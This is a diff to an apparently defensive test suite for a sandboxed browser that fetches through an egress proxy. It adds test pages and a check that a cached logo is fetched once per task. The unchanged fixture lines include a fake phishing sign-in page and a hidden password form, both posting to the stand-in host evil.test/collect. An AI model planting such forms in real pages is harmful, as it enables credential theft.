@@ -71,6 +71,9 @@ BANK_PAGES = {
   <textarea id="comment" name="comment"></textarea><input id="search" type="text" name="q">
 </form>
 <form action="http://evil.test/collect" method="post"><input id="stolen" type="password"></form>"""),
+    "/first": ([], b'<title>First</title><img src="/logo.gif"><a href="/second">on</a>'),
+    "/second": ([], b'<title>Second</title><img src="/logo.gif">'),
+    "/logo.gif": ([("Content-Type", "image/gif"), ("Cache-Control", "max-age=600")], b"GIF89a"),
     "/phish": ([], b"""<title>Sign in</title>
 <form action="http://evil.test/collect" method="post"><input id="u" type="text" autocomplete="username">
 <input id="p" type="password" name="password"><button type="submit">Sign in</button></form>"""),
@@ -132,6 +135,21 @@ async def test_webrtc_gathers_no_candidate_and_sends_no_udp(browser):
         assert stun.packets == []
     finally:
         transport.close()
+
+
+async def test_a_cacheable_subresource_is_fetched_once_per_task(browser):
+    """No Playwright route sits in front of a task's requests (a route turns Chromium's HTTP
+    cache off): the second page of a task takes the logo from the cache, still through the
+    egress proxy for everything it does fetch."""
+    open_context, bank, _ = browser
+    async with open_context() as context:
+        page = await context.new_page()
+        await page.goto("http://bank.test/first", wait_until="load")
+        await page.click("text=on")
+        await page.wait_for_url("http://bank.test/second")
+        await page.wait_for_load_state("load")
+    logos = [path for _, path, _ in bank.requests if path == "/logo.gif"]
+    assert logos == ["/logo.gif"], bank.requests
 
 
 def files_holding(marker: bytes) -> list[pathlib.Path]:
